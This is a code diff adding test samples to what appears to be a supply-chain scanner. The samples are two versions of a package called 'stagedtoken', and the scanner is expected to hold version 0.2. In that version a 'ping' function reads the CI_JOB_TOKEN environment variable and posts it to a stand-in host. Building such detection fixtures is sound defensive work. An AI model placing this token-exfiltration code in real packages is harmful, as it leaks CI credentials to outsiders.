@@ -269,6 +269,28 @@ class Ctx(dict):
 """
 
 
+STAGED_TOKEN_0_2 = STAGED_0_1 + """
+
+def report(token):
+    requests.post("https://status.invalid/ping", data={"t": token}, timeout=10)
+
+
+def ping():
+    report(os.environ.get("CI_JOB_TOKEN"))
+"""
+
+
+def staged_token_samples() -> tuple[Sample, Sample]:
+    """stagedtoken 0.1 (benign, as stagedpkg 0.1) and 0.2: the same capabilities, and one
+    environment value passed to a function that posts it (a medium M1 finding, 4 points: held
+    only because the behaviour is new to the project)."""
+    def one(version: str, body: str, bad: bool) -> Sample:
+        return Sample(key=f"staged-token-{version}", name="stagedtoken", version=version,
+                      files={"stagedtoken/__init__.py": _src(body)}, expect="hold" if bad else "publish",
+                      rule=M1 if bad else None, note="staged: same capabilities, a medium flow new to the project")
+    return one("0.1", STAGED_0_1, False), one("0.2", STAGED_TOKEN_0_2, True)
+
+
 def staged_samples() -> tuple[Sample, Sample]:
     """stagedpkg 0.1 (benign) and 0.2 (the split exfiltration)."""
     def one(version: str, body: str, bad: bool) -> Sample:
